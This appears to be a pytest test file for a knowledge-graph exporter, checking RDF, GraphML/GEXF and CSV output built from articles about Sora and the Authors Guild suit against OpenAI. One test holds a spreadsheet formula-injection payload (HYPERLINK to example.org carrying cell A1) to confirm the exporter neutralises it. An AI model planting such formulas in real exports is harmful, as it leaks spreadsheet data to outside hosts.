"""Files of every format: read back by another program than the one that wrote them, and parts."""

import csv
import io
import json
import tempfile
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import networkx as nx
import pyld
import pyoxigraph as ox
import pytest
import rdflib
from claims import GUILD, GUILD_CLAIMS, SORA, SORA_CLAIMS, claim
from hypothesis import given, settings
from hypothesis import strategies as st

from kg.cli import main
from kg.errors import OutputError, UsageError
from kg.exports import COLUMNS, RDF12, csv_table, export, part_of, with_reifiers
from kg.formats import SERIALIZERS, nquads
from kg.graph import article_quads
from kg.iris import BASE, statement_iri
from kg.readback import Placed, placed_statements, statements_from
from kg.records import Article, Statement
from kg.resources import ontology_dir
from kg.selection import Selection
from kg.store import Store, open_store
from kg.validation import validate
from kg.vocabulary import NAMESPACE, entity_types, relations

READERS = {
    "turtle": ox.RdfFormat.TURTLE, "trig": ox.RdfFormat.TRIG, "nquads": ox.RdfFormat.N_QUADS,
    "ntriples": ox.RdfFormat.N_TRIPLES, "jsonld": ox.RdfFormat.JSON_LD,
    "rdfxml": ox.RdfFormat.RDF_XML,
}  # fmt: skip
NETWORKS = {"graphml": nx.parse_graphml, "gexf": lambda text: nx.read_gexf(io.StringIO(text))}


@pytest.fixture
def store() -> Iterator[Store]:
    with open_store(None) as opened:
        opened.replace_articles(
            [(SORA, SORA_CLAIMS, "s"), (GUILD, GUILD_CLAIMS, "g")], extractor="kg test"
        )
        yield opened


def read(text: str, format: str) -> set[ox.Quad]:
    return set(ox.parse(text, READERS[format]))


# ---- read back


def test_json_is_read_by_a_second_processor(store: Store) -> None:
    data = json.loads(export(store, "jsonld", reported=True))
    quads = pyld.jsonld.to_rdf(data, {"format": "application/n-quads"})
    assert read(quads, "nquads") == read(export(store, "ntriples", reported=True), "ntriples")


def test_rdflib_reads_the_triples(store: Store) -> None:
    graph = rdflib.Graph().parse(data=export(store, "ntriples"), format="nt")
    assert len(graph) == len(read(export(store, "turtle"), "turtle")) > 300


@pytest.mark.parametrize("format", NETWORKS)
def test_networks_are_read_by_networkx(store: Store, format: str) -> None:
    network = NETWORKS[format](export(store, format))
    assert isinstance(network, nx.MultiDiGraph)
    placed = list(placed_statements(store.quads()))
    assert network.number_of_edges() == len(placed) == len(SORA_CLAIMS) + len(GUILD_CLAIMS)
    assert network.nodes["openai"]["label"] == "OpenAI"
    assert network.nodes["artists"]["label_id"] == "seniman"
    edges = {(a, b, data["relation"]): data for a, b, data in network.edges(data=True)}
    said = edges["openai", "books", "copies"]
    assert {"speaker", "negated", "modality", "sentence", "confidence", "article"} <= set(said)
    sued = edges["authors-guild", "openai", "sues"]
    assert sued["negated"] is False
    assert (sued["sign"], sued["time"], sued["date"]) == (-1, "2023-09-19", "2023-09-20")
    assert sued["sentence"] == GUILD_CLAIMS[0].sentence.text
    assert sued["statement"] == statement_iri(GUILD_CLAIMS[0])


def test_the_table_has_a_row_for_each_statement(store: Store) -> None:
    text = export(store, "csv")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(rows) == len(SORA_CLAIMS) + len(GUILD_CLAIMS)
    assert list(rows[0]) == list(COLUMNS)
    texts = {SORA.id: SORA.text, GUILD.id: GUILD.text}
    for row in rows:
        for part in ("subject", "trigger", "object", "speaker"):
            if row[f"{part}_words"]:
                start, end = int(row[f"{part}_start"]), int(row[f"{part}_end"])
                assert texts[row["article"]][start:end] == row[f"{part}_words"]
        where = slice(int(row["sentence_start"]), int(row["sentence_end"]))
        assert texts[row["article"]][where] == row["sentence"]
    assert {row["negated"] for row in rows} == {"true", "false"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_is_a_formula(start: str) -> None:
    title = f'{start}HYPERLINK("https://example.org?"&A1)'
    article = replace(SORA, title=title)
    [placed] = placed_statements(article_quads(article, SORA_CLAIMS[:1], extractor="x"))
    text = csv_table([placed], {article.id: article}).removeprefix("\ufeff")
    [_, row] = csv.reader(io.StringIO(text, newline=""))
    assert row[COLUMNS.index("title")] == "'" + title
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


# ---- RDF 1.2


@pytest.mark.parametrize("format", RDF12)
def test_each_statement_reifies_its_triple(store: Store, format: str) -> None:
    plain = read(export(store, format), format)
    with_triples = read(export(store, format, rdf12=True), format)
    more = with_triples - plain
    assert plain < with_triples
    assert {quad.predicate.value.rpartition("#")[2] for quad in more} == {"reifies"}
    found = {
        (quad.subject.value, str(quad.object.subject), quad.object.predicate.value) for quad in more
    }
    claims = {one.statement: one.claim for one in placed_statements(store.quads())}
    assert len(found) == len({*claims.values()})
    for statement, claim_iri in claims.items():
        kinds = {predicate for node, _, predicate in found if node == claim_iri}
        assert kinds == {NAMESPACE + statement.relation}


def test_reifying_asserts_nothing() -> None:
    negated = replace(SORA_CLAIMS[0], negated=True)
    quads = list(with_reifiers(article_quads(SORA, [negated], extractor="x")))
    spoken = [quad.object for quad in quads if isinstance(quad.object, ox.Triple)]
    assert len(spoken) == 1
    assert spoken[0] not in {quad.triple for quad in quads}


# ---- parts


def kept(store: Store, **selection: object) -> list[Statement]:
    text = export(store, "nquads", selection=Selection(**selection), reported=True)
    return list(statements_from(read(text, "nquads")))


def test_a_part_is_what_the_selection_says(store: Store) -> None:
    around = kept(store, around="seniman")
    assert len(around) == 8 < len(list(store.statements()))
    for statement in around:
        arguments = (statement.subject, statement.object, statement.attributed_to)
        assert "artists" in [one.entity.slug for one in arguments if one]
    assert {one.article for one in kept(store, since="2024")} == {"sora"}
    assert {one.article for one in kept(store, until="2023-12-31")} == {"guild"}
    assert {one.relation for one in kept(store, relations=("sues",))} == {"sues"}
    assert kept(store, since="2025") == []
    with pytest.raises(UsageError, match="no statement here is about"):
        kept(store, around="nobody at all")


@pytest.mark.parametrize("format", [*SERIALIZERS, *NETWORKS, "csv"])
def test_a_part_is_the_same_in_every_format(store: Store, format: str) -> None:
    selection = Selection(around="OpenAI", relations=("contends",))
    wanted = {
        one.claim
        for one in placed_statements(store.quads())
        if one.statement in set(kept(store, around="OpenAI", relations=("contends",)))
    }
    text = export(store, format, selection=selection)
    if format in NETWORKS:
        found = {data["statement"] for *_, data in NETWORKS[format](text).edges(data=True)}
    elif format == "csv":
        found = {row["statement"] for row in csv.DictReader(io.StringIO(text))}
    else:
        found = {one.claim for one in placed_statements(read(text, format))}
    assert found == wanted
    assert wanted


@settings(deadline=None, max_examples=40)
@given(st.sets(st.integers(0, 16)), st.booleans())
def test_any_part_is_a_whole_graph(chosen: set[int], reported: bool) -> None:
    """Whatever is kept: nothing dangles, nothing is asserted that nobody states."""
    everything = [(SORA, c) for c in SORA_CLAIMS] + [(GUILD, c) for c in GUILD_CLAIMS]
    # The same claim in a second article must not bring that article along.
    again = replace(SORA, id="again", date="2020-01-01")
    everything += [(again, replace(c, article="again")) for c in SORA_CLAIMS[:3]]
    by_article: dict[str, tuple[Article, list[Statement]]] = {}
    for article, statement in everything:
        by_article.setdefault(article.id, (article, []))[1].append(statement)
    quads = [
        quad
        for article, statements in by_article.values()
        for quad in article_quads(article, statements, extractor="x")
        if reported or "/reported/" not in str(quad.graph_name)
    ]
    placed = [one for number, one in enumerate(placed_statements(quads)) if number in chosen]
    part = list(part_of(quads, placed, base=BASE))
    assert list(placed_statements(part)) == placed
    assert set(part) <= set(quads)
    with tempfile.TemporaryDirectory() as folder, open_store(None) as opened:
        path = Path(folder) / "part.nq"
        path.write_text(nquads(part), encoding="utf-8")
        opened.load(path)
        assert {finding.severity for finding in validate(opened)} <= {"warning"}


def test_an_article_alone_says_nothing_of_another(store: Store) -> None:
    text = export(store, "trig", article="guild")
    assert "article:guild" in text
    assert "article:sora" not in text


# ---- refused


def test_what_does_not_go_together_is_refused(store: Store) -> None:
    for options in ({"reported": True}, {"ontology": True}, {"rdf12": True}):
        with pytest.raises(UsageError, match="are for RDF, and csv is none"):
            export(store, "csv", **options)
    with pytest.raises(UsageError, match="not for jsonld; expected one of turtle"):
        export(store, "jsonld", rdf12=True)
    with pytest.raises(UsageError, match="no format 'pdf'"):
        export(store, "pdf")


@pytest.mark.parametrize("format", NETWORKS)
def test_xml_refuses_what_it_cannot_hold(format: str) -> None:
    article = replace(SORA, text=SORA.text, title="bell \x07")
    with open_store(None) as opened:
        opened.replace_article(article, SORA_CLAIMS, extractor="x", fingerprint="x")
        with pytest.raises(OutputError, match=r"U\+0007"):
            export(opened, format)


@pytest.mark.parametrize("format", NETWORKS)
def test_odd_texts_survive_in_networks(format: str) -> None:
    odd = Article("odd", "a\u0301 <&> \"'\n\u202eOpenAI sued Meta. 😀", "en", "T & <t>\r\n\tx")
    said = claim(odd, "OpenAI sued Meta.", ("openai", "OpenAI"), ("sues", "sued"), ("meta", "Meta"))
    with open_store(None) as opened:
        opened.replace_article(odd, [said], extractor="x", fingerprint="x")
        text = export(opened, format)
    ET.fromstring(text.encode())
    [(_, _, data)] = NETWORKS[format](text).edges(data=True)
    assert data["sentence"] == said.sentence.text
    assert data["title"].split() == odd.title.split()


# ---- the same bytes


@pytest.mark.parametrize("format", [*SERIALIZERS, *NETWORKS, "csv"])
def test_the_order_of_building_does_not_matter(format: str) -> None:
    texts = []
    for order in ([SORA, GUILD], [GUILD, SORA]):
        with open_store(None) as opened:
            for article in order:
                claims = SORA_CLAIMS if article is SORA else GUILD_CLAIMS
                opened.replace_article(article, claims, extractor="x", fingerprint="x")
            texts.append(export(opened, format))
    assert texts[0] == texts[1]
    assert "lastmodified" not in texts[0]


def test_the_context_knows_the_vocabulary() -> None:
    context = json.loads((ontology_dir() / "context.jsonld").read_text(encoding="utf-8"))
    names = {}
    for name, value in context["@context"].items():
        iri = value["@id"] if isinstance(value, dict) else value
        prefix, _, local = iri.partition(":")
        names[context["@context"].get(prefix, prefix + ":") + local] = name
    for each in (*relations(), *entity_types()):
        assert names[NAMESPACE + each.name] == each.name


def test_the_command_writes_all_of_it(store: Store, tmp_path: Path) -> None:
    graph = tmp_path / "graph.trig"
    graph.write_text(export(store, "trig"), encoding="utf-8")
    out = tmp_path / "part.csv"
    assert main(["export", str(graph), "--format", "csv", "--around", "artists",
                 "--from", "2024-01", "-o", str(out)]) == 0  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert {row["article"] for row in rows} == {"sora"}
    assert main(["export", str(graph), "--from", "yesterday"]) == 2
    assert isinstance(next(iter(placed_statements(store.quads()))), Placed)
